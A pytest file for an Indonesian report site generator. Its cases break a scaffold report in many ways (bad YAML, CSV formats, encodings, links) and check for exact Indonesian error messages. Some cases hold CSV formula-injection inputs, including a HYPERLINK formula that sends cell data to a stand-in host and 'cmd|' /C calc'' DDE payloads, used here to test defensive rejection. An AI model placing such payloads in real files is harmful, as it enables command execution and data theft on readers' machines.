"""Broken variants of a good report: each is rejected with ``file:line: galat: ...`` and the previous build survives.

Every case starts from a copy of the scaffold report (``lkjip new``) that has already been built once, applies one
breakage, runs ``lkjip build``, and checks:

- exit code 1;
- a line ``<file>:<line>: galat: ...`` naming the exact file and the exact line of the breakage (computed by hand
  from the scaffold files, quoted in each case's comment);
- every line of stderr is a diagnostic or the Indonesian summary (no traceback, no English);
- ``build/`` is byte-for-byte the previous build and no staging folder is left next to it.

Scaffold files the line numbers refer to (after ``lkjip new`` with year 2023):

situs.yaml: 1-2 comments, 3 judul, 4 pemda, 5 url_dasar, 6 skala_predikat, 7-9 lisensi_data suggested in comments.
laporan.yaml: 1 comment, 2 tahun, 3 periode, 4 versi, 5 tanggal_terbit, 6 instansi:, 7 nama, 8 jenis, 9 alamat,
10 logo, 11 kepala:, 12 nama, 13 jabatan, 14 pangkat, 15 nip, 16 penandatanganan:, 17 tempat, 18 tanggal.
30-bab-3-akuntabilitas-kinerja.md: 1-6 front matter, 9 {nilai} sentence, 15 ```{tabel} capaian, 16 id, 17 judul,
20 {ref} sentence, 22 ```{tabel} anggaran, 23 id: tabel-anggaran, 24 judul.
01-ikhtisar-eksekutif.md: 6 first line of the paragraph, 7 the [BAB III](30-...md) link.
data/indikator.yaml: 2 "- id: IKU1", 3 nama, 4 satuan, 5 polaritas, 6 target:, 7 2023: 80, 8 realisasi:, 9 2023: 82.5.
data/pk.yaml: 1 tahun, 2 jenis, 3 sasaran: [S1], 4 program: [7.01.02].
data/renstra.yaml: 9 "- id: S1", 10 uraian, 11 indikator: [IKU1].
data/anggaran.yaml: 12 pagu: 100000000.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from conftest import REPORT_DIR, tree_hashes

from lkjip_site.cli.main import main

pytestmark = pytest.mark.usefixtures("epoch")

R = REPORT_DIR
LAPORAN = f"{R}/laporan.yaml"
BAB1 = f"{R}/10-bab-1-pendahuluan.md"
BAB3 = f"{R}/30-bab-3-akuntabilitas-kinerja.md"
BAB4 = f"{R}/40-bab-4-penutup.md"
IKHTISAR = f"{R}/01-ikhtisar-eksekutif.md"
INDIKATOR = f"{R}/data/indikator.yaml"
PK = f"{R}/data/pk.yaml"
RENSTRA = f"{R}/data/renstra.yaml"
ANGGARAN = f"{R}/data/anggaran.yaml"
SITUS = "situs.yaml"

# A stderr line is a diagnostic, the count summary or the "nothing written" notice; anything else is a leak.
_ALLOWED_LINE = re.compile(
    r"^(\S+:\d+: (galat|peringatan): .+|\d+ galat, \d+ peringatan\.|"
    r"Tidak ada berkas yang ditulis; (hasil build sebelumnya di \S+ tetap utuh|folder \S+ belum ada dan tidak "
    r"dibuat)\.|"
    r"Pemeriksaan selesai: ada galat; perbaiki baris yang disebut, lalu jalankan lagi\.)$"
)
_ENGLISH = re.compile(r"\b(error|errors|traceback|exception|expected|found|invalid|missing|not|the|while|could|"
                      r"line|column|file|scanning|parsing)\b", re.I)


# ------------------------------------------------------------------------------------------------ editing helpers


def replace(rel: str, old: str, new: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} harus muncul tepat sekali di {rel}"
        path.write_text(text.replace(old, new), encoding="utf-8")
    return apply


def write(rel: str, text: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).write_text(text, encoding="utf-8")
    return apply


def ansi(rel: str, old: str, new: str) -> Callable[[Path], None]:
    """``old`` replaced by ``new`` and the file saved as Notepad's and Excel's "ANSI" (Windows-1252), not UTF-8."""
    def apply(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} harus muncul tepat sekali di {rel}"
        path.write_bytes(text.replace(old, new).encode("cp1252"))
    return apply


def delete(rel: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).unlink()
    return apply


def append(rel: str, text: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
    return apply


def symlink(rel: str, target: str) -> Callable[[Path], None]:
    """``rel`` becomes a symbolic link to ``target`` (relative to the site folder when it is not absolute)."""
    def apply(root: Path) -> None:
        path = root / rel
        path.unlink(missing_ok=True)
        path.symlink_to(target if target.startswith("/") else root / target)
    return apply


def folder(rel: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).mkdir()
    return apply


def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        for step in steps:
            step(root)
    return apply


def _renamed(rel: str, name: str) -> Callable[[Path], None]:
    """The file ``rel`` given the name ``name`` in its folder."""
    def apply(root: Path) -> None:
        (root / rel).rename((root / rel).with_name(name))
    return apply


def _copy(rel: str, to: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / to).write_bytes((root / rel).read_bytes())
    return apply


def _moved_out(rel: str) -> Callable[[Path], None]:
    """The folder ``rel`` moved beside the site folder, a symbolic link to it left in its place."""
    def apply(root: Path) -> None:
        outside = root.parent / "di-luar-situs"
        (root / rel).rename(outside)
        (root / rel).symlink_to(outside, target_is_directory=True)
    return apply


@dataclass
class Case:
    id: str
    apply: Callable[[Path], None]
    file: str
    line: int
    says: str  # a fragment of the expected Indonesian message


CASES = [
    # "  alamat: Jl. Contoh: No. 1" on line 9: a second ": " inside a plain value.
    Case("yaml-sintaks", replace(LAPORAN, "alamat: Jl. Contoh No. 1", "alamat: Jl. Contoh: No. 1"),
         LAPORAN, 9, "YAML tidak dapat dibaca"),
    # line 8 indented with a TAB instead of two spaces
    Case("yaml-tab", replace(LAPORAN, "  jenis: kecamatan", "\tjenis: kecamatan"), LAPORAN, 8, "TAB"),
    # a second "tahun:" becomes line 5 (inserted after versi, line 4); the first is on line 2
    Case("kunci-ganda-laporan", replace(LAPORAN, 'versi: "1.0"\n', 'versi: "1.0"\ntahun: 2022\n'),
         LAPORAN, 5, "kunci 'tahun' ditulis dua kali (pertama di baris 2)"),
    # second "satuan:" of IKU1 becomes line 5 (first on line 4)
    Case("kunci-ganda-data", replace(INDIKATOR, "    satuan: indeks\n", "    satuan: indeks\n    satuan: persen\n"),
         INDIKATOR, 5, "kunci 'satuan' ditulis dua kali (pertama di baris 4)"),
    # front matter of BAB I: a second "judul:" on line 3 (first on line 2)
    Case("kunci-ganda-front-matter", replace(BAB1, "judul: Pendahuluan\n", "judul: Pendahuluan\njudul: Lagi\n"),
         BAB1, 3, "kunci 'judul' ditulis dua kali (pertama di baris 2)"),
    # "tahun: 2023" (line 2) removed: the document's mapping now starts with "periode:" on line 2
    Case("wajib-tahun", replace(LAPORAN, "tahun: 2023\n", ""), LAPORAN, 2, "kunci wajib 'tahun'"),
    # "nip:" (line 15) removed: reported at "kepala:" (line 11), the mapping that lacks it
    Case("wajib-nip", replace(LAPORAN, '    nip: "197001011990031001"\n', ""), LAPORAN, 11,
         "kunci wajib 'instansi.kepala.nip'"),
    Case("tipe-tahun", replace(LAPORAN, "tahun: 2023", 'tahun: "dua ribu"'), LAPORAN, 2, "bilangan bulat"),
    Case("enum-periode", replace(LAPORAN, "periode: tahunan", "periode: tahun"), LAPORAN, 3, "pilihan: tahunan"),
    # tanggal_terbit on line 5 written day-first
    Case("tanggal-format", replace(LAPORAN, "tanggal_terbit: 2024-02-15", "tanggal_terbit: 15-02-2024"),
         LAPORAN, 5, "TTTT-BB-HH"),
    # 30 February looks like a date to YAML but is not one
    Case("tanggal-mustahil", replace(LAPORAN, "tanggal_terbit: 2024-02-15", "tanggal_terbit: 2024-02-30"),
         LAPORAN, 5, "tanggal"),
    Case("nip-pendek", replace(LAPORAN, '"197001011990031001"', '"19700101"'), LAPORAN, 15, "NIP 18 angka"),
    # BAB IV without its front matter at all
    Case("front-matter-hilang", write(BAB4, "## Kesimpulan\n\nTeks.\n"), BAB4, 1, "front matter tidak ditemukan"),
    # the closing "---" (line 6) removed: the front matter opened on line 1 never ends
    Case("front-matter-tak-ditutup", replace(BAB4, "urutan: 40\n---\n", "urutan: 40\n"), BAB4, 1, "front matter"),
    # "judul:" (line 2) removed: reported at the first line of the front matter (line 2)
    Case("front-matter-tanpa-judul", replace(BAB1, "judul: Pendahuluan\n", ""), BAB1, 2, "kunci wajib 'judul'"),
    # "bab: I" (line 4) removed: reported at "jenis: bab" (line 3)
    Case("bab-tanpa-nomor", replace(BAB1, "bab: I\n", ""), BAB1, 3, "wajib memiliki kunci 'bab'"),
    # BAB IV takes urutan 30 (its line 5), already used by BAB III
    Case("urutan-ganda", replace(BAB4, "urutan: 40", "urutan: 30"), BAB4, 5, "urutan 30 sudah dipakai"),
    # renstra sasaran S1 names IKU9 on line 11
    Case("renstra-indikator-asing", replace(RENSTRA, "indikator: [IKU1]", "indikator: [IKU9]"), RENSTRA, 11,
         "indikator 'IKU9'"),
    # pk.yaml line 3 names sasaran S9
    Case("pk-sasaran-asing", replace(PK, "sasaran: [S1]", "sasaran: [S1, S9]"), PK, 3, "sasaran 'S9'"),
    # pk.yaml line 4 names program 7.01.99
    Case("pk-program-asing", replace(PK, "program: [7.01.02]", "program: [7.01.02, 7.01.99]"), PK, 4,
         "program '7.01.99'"),
    # realisasi 2023 (line 9) written as a grade "B" but IKU1 has no kualitatif list
    Case("nilai-kualitatif-tanpa-daftar", replace(INDIKATOR, "2023: 82.5", "2023: B"), INDIKATOR, 9, "kualitatif"),
    # ```{tabel} capaianx on line 11
    Case("jenis-tabel-asing", replace(BAB3, "```{tabel} capaian\n", "```{tabel} capaianx\n"), BAB3, 11,
         "jenis tabel 'capaianx' tidak dikenal"),
    # {nilai}`IKU9.capaian` on line 9
    Case("nilai-indikator-asing", replace(BAB3, "{nilai}`IKU1.capaian`", "{nilai}`IKU9.capaian`"), BAB3, 9, "IKU9"),
    # {ref}`tabel-tidak-ada` on line 20
    Case("ref-asing", replace(BAB3, "{ref}`tabel-anggaran`", "{ref}`tabel-tidak-ada`"), BAB3, 20,
         "rujukan 'tabel-tidak-ada' tidak ditemukan"),
    # the link on line 7 (second line of the paragraph that starts on line 6) names a missing file
    Case("tautan-bab-hilang", replace(IKHTISAR, "(30-bab-3-akuntabilitas-kinerja.md)", "(31-bab-3.md)"),
         IKHTISAR, 7, "tautan '31-bab-3.md'"),
    # same link with an anchor that BAB III does not have
    Case("tautan-jangkar-hilang",
         replace(IKHTISAR, "(30-bab-3-akuntabilitas-kinerja.md)", "(30-bab-3-akuntabilitas-kinerja.md#tidak-ada)"),
         IKHTISAR, 7, "bagian '#tidak-ada' tidak ada"),
    # BAB I line 9 gains an image that does not exist
    Case("gambar-hilang", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                  "Lihat ![Peta wilayah](gambar/peta.png)."), BAB1, 9, "gambar 'gambar/peta.png' tidak ditemukan"),
    # BAB I line 9: an image path that leaves the report folder
    Case("gambar-keluar-folder", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                         "Lihat ![Rahasia](../../x.png)."), BAB1, 9, "di luar folder laporan"),
    # logo on line 10 points to a missing file
    Case("logo-hilang", replace(LAPORAN, "logo: gambar/logo.svg", "logo: gambar/lambang.svg"), LAPORAN, 10,
         "logo 'gambar/lambang.svg' tidak ditemukan"),
    # CSV: line 3 has four cells for three columns
    Case("csv-jumlah-kolom", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan\nSungai,120,130\nBatu,1,2,3\n"),
         f"{R}/data/penduduk.csv", 3, "4 kolom"),
    # CSV: a blank line 3 does not shift the count: the bad row is physical line 4
    Case("csv-baris-kosong", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan\nSungai,120,130\n\nBatu,1,2,3\n"),
         f"{R}/data/penduduk.csv", 4, "4 kolom"),
    # CSV: line 3 writes a number in display format
    Case("csv-format-tampilan", write(f"{R}/data/penduduk.csv", 'desa,laki,perempuan\nSungai,120,130\nBatu,"1.234,5",2\n'),
         f"{R}/data/penduduk.csv", 3, "format tampilan, '1.234,5' memakai koma desimal dan pemisah ribuan; tulis 1234.5"),
    # line 7 names a theme the site does not have: an error, never a silent fall back to the default theme
    Case("tema-tidak-ada", append(SITUS, "tema: biru\n"), SITUS, 10, "tema 'biru' tidak ditemukan"),

    # url_dasar is line 5 of the scaffold situs.yaml
    Case("url-tanpa-garis-miring", replace(SITUS, "url_dasar: https://lkjip.contoh.go.id/",
                                           "url_dasar: https://lkjip.contoh.go.id"), SITUS, 5, "diakhiri '/'"),
    # pagu on line 12 in display format (three groups, so YAML reads a string)
    Case("pagu-format-tampilan", replace(ANGGARAN, "pagu: 100000000", "pagu: 100.000.000"), ANGGARAN, 12,
         "'100.000.000' memakai pemisah ribuan; tulis 100000000"),
    # 1250 as Indonesian prints it, which YAML read as 1,25 rupiah (line 12; an indicator's 83.515, an IKM, is a
    # decimal: the fixture kecamatan-25 has one); 82 500 grouped with a space (line 9)
    Case("pagu-titik-ribuan", replace(ANGGARAN, "pagu: 100000000", "pagu: 1.250"), ANGGARAN, 12,
         "pagu: '1.250' memakai pemisah ribuan (rupiah tidak memiliki tiga angka desimal); tulis 1250"),
    Case("realisasi-spasi-ribuan", replace(INDIKATOR, "2023: 82.5", "2023: 82 500"), INDIKATOR, 9,
         "'82 500' memakai spasi pemisah ribuan; tulis 82500"),
    # a realisasi of one thousand as Indonesian prints it (line 9): YAML read 1.000 as 1 and the capaian was 1,25 %
    # without a word; a decimal ending in 0 after three places is never typed so, so both readings are offered
    Case("realisasi-titik-ribuan", replace(INDIKATOR, "2023: 82.5", "2023: 1.000"), INDIKATOR, 9,
         "'1.000' dapat berarti ribuan; tulis 1000 bila itu ribuan, atau 1 bila titik itu titik desimal"),
    # line 23: the anggaran table takes the id of the capaian table
    Case("id-tabel-ganda", replace(BAB3, "id: tabel-anggaran", "id: tabel-capaian"), BAB3, 23,
         "id 'tabel-capaian' sudah dipakai"),
    # laporan.yaml lines 19-25: a custom scale with a gap between 70 and 80; "celah:" is line 21
    Case("skala-bercelah", append(LAPORAN, "skala_predikat: celah\nskala:\n  celah:\n    nama: Skala Bercelah\n"
                                           "    kelas:\n      - {label: Baik, min: 80}\n"
                                           "      - {label: Kurang, min: 0, max: 70}\n"), LAPORAN, 21, "celah"),
    # anggaran.yaml: a second program (item on line 14) names sasaran S9 on line 24
    Case("program-sasaran-asing", append(ANGGARAN, "  - kode: 7.01.03\n    nama: Program Lain\n"
                                                   "    kegiatan:\n      - kode: 7.01.03.2.01\n        nama: Kegiatan\n"
                                                   "        sub_kegiatan:\n          - kode: 7.01.03.2.01.0001\n"
                                                   "            nama: Sub\n            pagu: 1\n            realisasi: 1\n"
                                                   "    sasaran: S9\n"), ANGGARAN, 24, "sasaran 'S9'"),
    # the id of IKU1 (line 2) is used again by a second indicator on line 10
    Case("id-indikator-ganda", append(INDIKATOR, "  - id: IKU1\n    nama: Lagi\n    satuan: '%'\n    polaritas: positif\n"),
         INDIKATOR, 10, "id indikator 'IKU1' sudah dipakai di baris 2"),
    # an id in other capitals (iku1 on line 10 beside IKU1 on line 2): Excel's lookups and a reader take them for one,
    # and a reference typed in the other capitals reads the other indicator unseen
    Case("id-indikator-huruf", append(INDIKATOR, "  - id: iku1\n    nama: Lagi\n    satuan: '%'\n"
                                                 "    polaritas: positif\n"),
         INDIKATOR, 10, "id indikator 'iku1' hanya berbeda huruf besar/kecil dengan 'IKU1' di baris 2"),
    # versi (line 4) without quotes: YAML reads 1.10 as 1.1, which would publish under the wrong URL
    Case("versi-tanpa-kutip", replace(LAPORAN, 'versi: "1.0"', "versi: 1.10"), LAPORAN, 4, "tanda kutip"),
    # a CSV header with the same column twice (line 1)
    Case("csv-kolom-ganda", write(f"{R}/data/penduduk.csv", "desa,jumlah,jumlah\nA,1,2\n"),
         f"{R}/data/penduduk.csv", 1, "nama kolom CSV"),
    # options of a table block: a YAML error on the block's second line (file line 13)
    Case("opsi-tabel-yaml", replace(BAB3, "judul: Capaian indikator kinerja sasaran strategis",
                                    "judul: Capaian: indikator: kinerja"), BAB3, 13, "YAML tidak dapat dibaca"),
    # files that cannot be read, each named at its line 1: a chapter linked to nothing (the build before had no such
    # file: the record must not replay it), laporan.yaml linked to nothing, a data file linked out of the report
    # folder (it would be published as open data), a folder named as a data file
    Case("bab-tautan-kosong", symlink(f"{R}/15-bab-tambahan.md", "/tidak/ada.md"), f"{R}/15-bab-tambahan.md", 1,
         "tautan (symbolic link) ke berkas yang tidak ada"),
    Case("laporan-tautan-kosong", symlink(LAPORAN, f"{R}/laporan-lama.yaml"), LAPORAN, 1,
         "tautan (symbolic link) ke berkas yang tidak ada"),
    Case("data-tautan-keluar", symlink(f"{R}/data/penduduk.csv", SITUS), f"{R}/data/penduduk.csv", 1,
         "tautan (symbolic link) ke luar folder"),
    Case("data-berupa-folder", folder(f"{R}/data/ikm.yaml"), f"{R}/data/ikm.yaml", 1,
         "'ikm.yaml' adalah folder, bukan berkas"),
    # CSV as Excel saves it with Indonesian settings: 1250 shown (and saved) as 1.250, read as 1,25 (line 2); ';' between
    # columns (line 1); a Jumlah column and row lkjip would add in again (lines 1 and 3)
    Case("csv-titik-ribuan", write(f"{R}/data/penduduk.csv", "desa,penduduk\nA,1.250\nB,980\n"),
         f"{R}/data/penduduk.csv", 2, "'1.250' dapat berarti ribuan; tulis 1250 bila itu ribuan, atau 1.25"),
    # one cell of a column of numbers as Excel shows it (a zero in Accounting format, a formula's error, an
    # accountant's negative): the column became text, its Jumlah vanished from the table without a word (line 3)
    Case("csv-strip-di-kolom-angka", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan\nA,120,130\nB,-,2\n"),
         f"{R}/data/penduduk.csv", 3,
         "kolom 'laki' berisi angka, tetapi sel ini berisi '-'; tulis 0 bila nilainya nol"),
    Case("csv-galat-rumus", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan\nA,120,130\nB,1,#DIV/0!\n"),
         f"{R}/data/penduduk.csv", 3, "sel ini berisi '#DIV/0!'; itu galat rumus Excel"),
    # text a spreadsheet reads as a formula (CSV injection): published as it is in the open data's CSV (indikator.csv,
    # anggaran.csv) and in data/, it ran in the Excel of a citizen who opened it: an indicator's name (line 3), a
    # program's (line 4), a dataset's cell (line 3)
    Case("nama-rumus-excel", replace(INDIKATOR, "nama: Indeks Kepuasan Masyarakat",
                                     """nama: '=HYPERLINK("https://contoh.test/?"&A1,"Rincian")'"""), INDIKATOR, 3,
         "' diawali '=', yang dibaca Excel dan LibreOffice sebagai awal rumus saat warga membuka data terbuka (CSV)"),
    Case("anggaran-nama-rumus", replace(ANGGARAN, "nama: Program Penyelenggaraan Pemerintahan dan Pelayanan Publik",
                                        "nama: \"-2+3+cmd|' /C calc'!A0\""), ANGGARAN, 4,
         "diawali '-', yang dibaca Excel dan LibreOffice sebagai awal rumus"),
    Case("csv-sel-rumus", write(f"{R}/data/penduduk.csv", "desa,laki\nA,120\n\"@SUM(1+1)*cmd|' /C calc'!A0\",130\n"),
         f"{R}/data/penduduk.csv", 3, "sel CSV '@SUM(1+1)*cmd|' /C calc'!A0' diawali '@'"),
    Case("csv-negatif-kurung", write(f"{R}/data/penduduk.csv", "desa,selisih\nA,120\nB,(1.250)\n"),
         f"{R}/data/penduduk.csv", 3,
         "sel ini berisi '(1.250)'; angka negatif ditulis dengan tanda minus: tulis -1250"),
    # a number as Excel set to English writes it (line 3): was "berupa teks" without what to write; '1,250' alone was
    # told to be written 1.250 only, where English Excel meant 1250
    Case("csv-angka-inggris", write(f"{R}/data/penduduk.csv", 'desa,luas\nA,"1,250.5"\nB,"1,234,567.00"\n'),
         f"{R}/data/penduduk.csv", 2, "'1,250.5' memakai koma pemisah ribuan (format angka Excel berbahasa Inggris); "
                                     "tulis 1250.5"),
    Case("csv-koma-ribuan", write(f"{R}/data/penduduk.csv", 'desa,penduduk\nA,"1,250"\nB,980\n'),
         f"{R}/data/penduduk.csv", 2, "'1,250' memakai koma desimal; tulis 1.25 (atau 1250 bila koma itu pemisah "
                                     "ribuan)"),
    Case("realisasi-angka-inggris", replace(INDIKATOR, "2023: 82.5", "2023: 1,234.5"), INDIKATOR, 9,
         "'1,234.5' memakai koma pemisah ribuan (format angka Excel berbahasa Inggris); tulis 1234.5"),
    # saved as Windows-1252 ("ANSI"): was said at line 1 of a file of any length; now at the line of the first
    # character that is no UTF-8, shown as Windows shows it (indikator.yaml line 3, a CSV's line 3, BAB I line 9)
    Case("yaml-ansi", ansi(INDIKATOR, "    nama: ", "    nama: Luas m² "), INDIKATOR, 3,
         "berkas bukan teks UTF-8 (baris ini: 'nama: Luas m² "),
    Case("csv-ansi", chain(write(f"{R}/data/penduduk.csv", "desa,penduduk\nA,1\n"),
                           ansi(f"{R}/data/penduduk.csv", "A,1", "A,1\nBéla,2")), f"{R}/data/penduduk.csv", 3,
         "berkas CSV bukan teks UTF-8 (baris ini: 'Béla,2'); simpan ulang sebagai CSV UTF-8 (di Excel: Simpan Sebagai "
         "→ CSV UTF-8; di LibreOffice: Berkas → Simpan Sebagai… → Teks CSV (.csv), centang 'Sunting pengaturan "
         "penyaring' (Edit filter settings), lalu pilih set karakter 'Unicode (UTF-8)')"),
    Case("bab-ansi", ansi(BAB1, "Tuliskan latar belakang", "Tuliskan café latar belakang"), BAB1, 9,
         "berkas bukan teks UTF-8 (baris ini: 'Tuliskan café latar belakang"),
    # a title typed above the table, and a column left empty at the right (Excel saves "a,b,"): both were said only
    # "nama kolom CSV harus terisi ..." or as one "4 columns, header 1" per row, nothing about what to delete
    Case("csv-baris-judul", write(f"{R}/data/penduduk.csv", "DATA PENDUDUK 2023\ndesa,laki,perempuan\nA,1,2\n"),
         f"{R}/data/penduduk.csv", 1, "baris ini tampaknya judul tabel ('DATA PENDUDUK 2023'), bukan nama kolom; "
                                     "hapus baris ini"),
    Case("csv-kolom-tanpa-nama", write(f"{R}/data/penduduk.csv", "desa,laki,\nA,1,\nB,2,\n"),
         f"{R}/data/penduduk.csv", 1, "kolom ke-3 tidak bernama"),
    # a Markdown table row with a cell more than its header (BAB I, 13 lines: the row is line 17): the parser drops
    # the cell, so the number typed there was missing from the page without a word
    Case("tabel-md-sel-lebih", append(BAB1, "\n| Desa | Penduduk |\n|---|---|\n| A | 1250 | 980 |\n"), BAB1, 17,
         "baris tabel ini memiliki 3 sel, sedangkan baris judulnya 2 kolom; sel lebihannya ('980') tidak tampil"),
    # an empty line above the opening '---' (BAB I): was "berkas bab harus diawali baris '---'", which it seemed to be
    Case("front-matter-baris-kosong", replace(BAB1, "---\njudul: Pendahuluan", "\n\n---\njudul: Pendahuluan"), BAB1, 1,
         "baris '---' ada di baris 3, padahal harus di baris 1; hapus baris kosong di awal berkas"),
    # pk.yaml saved as pk.yml, or as pk.yaml.txt by Notepad with extensions hidden: was a warning, the PK not read
    Case("data-yml", _renamed(PK, "pk.yml"), f"{R}/data/pk.yml", 1,
         "berkas data 'pk.yml' tidak dibaca: namanya harus persis 'pk.yaml'; ganti namanya"),
    Case("data-txt", _renamed(PK, "pk.yaml.txt"), f"{R}/data/pk.yaml.txt", 1,
         "berkas data 'pk.yaml.txt' tidak dibaca: namanya harus persis 'pk.yaml'"),
    # BAB I saved by Notepad as .md.txt (extensions hidden): was a warning that the file is not read, the report
    # built without the chapter
    Case("bab-md-txt", _renamed(BAB1, "10-bab-1-pendahuluan.md.txt"), f"{R}/10-bab-1-pendahuluan.md.txt", 1,
         "berkas '10-bab-1-pendahuluan.md.txt' tidak dibaca sebagai bab: nama berkas bab harus berakhiran .md; ganti "
         "namanya menjadi 10-bab-1-pendahuluan.md"),
    # a role's backticks typed as Word's curly quotes (BAB III line 9): said "tanpa isi" only, the ‘ unexplained
    Case("peran-kutip-word", replace(BAB3, "mencapai {nilai}`IKU1.capaian`", "mencapai {nilai}‘IKU1.capaian’"),
         BAB3, 9,
         "tanda '‘' sesudahnya bukan petik terbalik (`, di papan ketik di kiri angka 1)"),
    # Word's soft hyphen inside a path (BAB III line 9): "atribut 'capa\u00adian' tidak ada … mungkin maksudnya
    # 'capaian'" printed both names alike; a zero-width space before the backtick: "tanpa isi", nothing more
    Case("peran-tanda-hubung-lunak",
         replace(BAB3, "mencapai {nilai}`IKU1.capaian`", "mencapai {nilai}`IKU1.capa\u00adian`"), BAB3, 9,
         "{nilai}`IKU1.capa[U+00AD]ian` memuat karakter tak terlihat (U+00AD, tanda hubung lunak, biasanya dari "
         "Word atau salinan PDF) di tempat yang ditandai [U+00AD]; hapus rujukan itu lalu ketik ulang: "
         "{nilai}`IKU1.capaian`"),
    Case("peran-spasi-lebar-nol",
         replace(BAB3, "mencapai {nilai}`IKU1.capaian`", "mencapai {nilai}\u200b`IKU1.capaian`"), BAB3, 9,
         "sesudahnya ada karakter tak terlihat (U+200B, spasi lebar nol, biasanya dari Word)"),
    Case("csv-titik-koma", write(f"{R}/data/penduduk.csv", "desa;penduduk\nA;1250\n"),
         f"{R}/data/penduduk.csv", 1, "dipisahkan titik koma (;); simpan ulang dengan pemisah koma (di Excel: Simpan "
                                     "Sebagai → CSV UTF-8 (dipisahkan koma); di LibreOffice: Berkas → Simpan Sebagai… "
                                     "→ Teks CSV (.csv), centang 'Sunting pengaturan penyaring' (Edit filter "
                                     "settings), lalu pilih pemisah ruas ','"),
    # Excel with Indonesian settings: a header naming "Luas (km², 2023)" read as two columns with commas, its rows'
    # decimal commas split alike, and the table published as "Desa;Luas (km²" over "A;12" without a word
    Case("csv-titik-koma-judul-berkoma",
         write(f"{R}/data/penduduk.csv", "Desa;Luas (km², 2023);Penduduk\nA;12,5;1.234\nB;8,25;2.345\n"),
         f"{R}/data/penduduk.csv", 1, "kolom CSV dipisahkan titik koma (;); simpan ulang dengan pemisah koma"),
    # every field quoted (LibreOffice's "Quote all text cells"): as many columns with commas as with ';'
    Case("csv-titik-koma-berkutip", write(f"{R}/data/luas.csv", '"Desa";"Luas (km², 2023)"\n"A";"12,5"\n'),
         f"{R}/data/luas.csv", 1, "kolom CSV dipisahkan titik koma (;)"),
    # "Teks (dipisahkan tab)" renamed .csv: one column of "Desa\tPenduduk", published so
    Case("csv-tab", write(f"{R}/data/penduduk.csv", "Desa\tPenduduk\nA\t1250\nB\t2000\n"),
         f"{R}/data/penduduk.csv", 1, "kolom CSV dipisahkan tab; simpan ulang dengan pemisah koma"),
    # a decimal comma typed without quotes (Notepad): "baris ini memiliki 3 kolom" alone, the comma not pointed at
    Case("csv-koma-desimal-tanpa-kutip", write(f"{R}/data/penduduk.csv", "desa,capaian\nA,85,32\nB,90\n"),
         f"{R}/data/penduduk.csv", 2, "baris ini memiliki 3 kolom, sedangkan judul kolom ada 2; bila '85,32' satu "
                                     "angka berkoma desimal, tulis 85.32 (koma memisahkan kolom"),
    Case("csv-kolom-jumlah", write(f"{R}/data/penduduk.csv", "desa,laki,perempuan,Jumlah\nA,1,2,3\n"),
         f"{R}/data/penduduk.csv", 1, "kolom 'Jumlah' tidak perlu ditulis"),
    Case("csv-baris-jumlah", write(f"{R}/data/penduduk.csv", "desa,laki\nA,1\nTotal,1\n"),
         f"{R}/data/penduduk.csv", 3, "baris 'Total' tidak perlu ditulis"),
    # YAML 1.1 numbers an author did not write: 1:20 (a ratio) read as 80 in base 60 (realisasi, line 9), .nan (target,
    # line 7), 0x1F (pagu, line 12): now text, which the schema refuses
    Case("yaml-rasio-seksagesimal", replace(INDIKATOR, "2023: 82.5", "2023: 1:20"), INDIKATOR, 9,
         "nilai '1:20' berupa teks"),
    Case("yaml-nan", replace(INDIKATOR, "2023: 80", "2023: .nan"), INDIKATOR, 7, "nilai '.nan' berupa teks"),
    # a stand-in for a number where the indicator has no grades (line 9): was only "berupa teks", nothing to write
    Case("realisasi-na", replace(INDIKATOR, "2023: 82.5", "2023: n/a"), INDIKATOR, 9,
         "nilai 'n/a' berupa teks, tetapi indikator tidak punya daftar 'kualitatif'; bila datanya tidak ada, tulis "
         "{tidak_ada: alasan}"),
    Case("realisasi-kutip-word", replace(INDIKATOR, "2023: 82.5", "2023: “82.5”"), INDIKATOR, 9,
         "tanda kutip miring (“ ”, dari Word) membuatnya teks; tulis 82.5 tanpa tanda kutip"),
    Case("realisasi-negatif-kurung", replace(INDIKATOR, "2023: 82.5", "2023: (12)"), INDIKATOR, 9,
         "angka negatif ditulis dengan tanda minus: tulis -12"),
    Case("realisasi-teks-lain", replace(INDIKATOR, "2023: 82.5", "2023: 1e3"), INDIKATOR, 9,
         "tulis angka dengan titik desimal (mis. 84.82), {tidak_ada: alasan} bila datanya tidak ada"),
    # a target typed as the PK prints it (line 7), a bound or a range: "tambahkan daftar 'kualitatif'" sent a dinas
    # to make its stunting rate a grade; the number to write is said, with the polarity that says "at most"
    Case("target-batas", replace(INDIKATOR, "2023: 80", '2023: "≤ 14 %"'), INDIKATOR, 7,
         "indikator IKU1: target '≤ 14 %' berupa teks; '≤ 14 %' berarti makin rendah makin baik: tulis 14 dan ubah "
         "polaritas indikator ini menjadi negatif"),
    Case("target-batas-bawah", replace(INDIKATOR, "2023: 80", '2023: "min. 80,5"'), INDIKATOR, 7,
         "batas target ditulis sebagai angka saja: tulis 80.5; polaritas: positif sudah berarti makin tinggi makin "
         "baik, dan capaian dihitung terhadap 80.5"),
    Case("target-rentang", replace(INDIKATOR, "2023: 80", "2023: 80-85"), INDIKATOR, 7,
         "rentang tidak dapat dihitung capaiannya; tulis satu angka, batas yang harus dicapai: untuk indikator "
         "berpolaritas positif ini batas bawahnya, 80"),
    Case("yaml-heksadesimal", replace(ANGGARAN, "pagu: 100000000", "pagu: 0x1F"), ANGGARAN, 12,
         "harus berupa angka, tertulis teks ('0x1F')"),
